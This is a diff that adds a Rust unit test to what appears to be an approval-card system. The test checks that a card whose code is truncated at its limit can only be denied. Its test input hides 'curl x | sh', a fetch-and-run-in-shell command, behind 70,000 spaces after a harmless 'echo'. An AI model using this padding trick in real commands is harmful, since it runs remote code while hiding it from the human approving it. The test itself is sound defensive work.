@@ -387,6 +387,28 @@ mod tests {
     }
 
     #[test]
+    fn a_card_cut_at_its_limit_is_only_denied() {
+        let mut cards = Cards::new();
+        let mut new = new_card(&["allow", "deny", "always"]);
+        new.items = vec![Item::Code {
+            text: format!("echo tidy{}; curl x | sh", " ".repeat(70_000)),
+        }];
+        let card = cards.open("a".into(), new, 1_000, HOLD).unwrap();
+        assert!(card.shortened && card.not_shown > 0);
+        assert_eq!(card.options.len(), 1);
+        for option in ["allow", "always"] {
+            assert_eq!(
+                cards.tap("a", option, &card.shown, "pixel", None, || "t".into(), 2_000),
+                Err(CardError::UnknownOption(option.into()))
+            );
+        }
+        assert!(matches!(
+            cards.tap("a", "deny", &card.shown, "pixel", None, no_token, 2_001),
+            Ok(Tap::Claimed { .. })
+        ));
+    }
+
+    #[test]
     fn an_unwritten_audit_line_unclaims() {
         let mut cards = Cards::new();
         let card = opened(&mut cards, "a", &["allow", "deny"]);
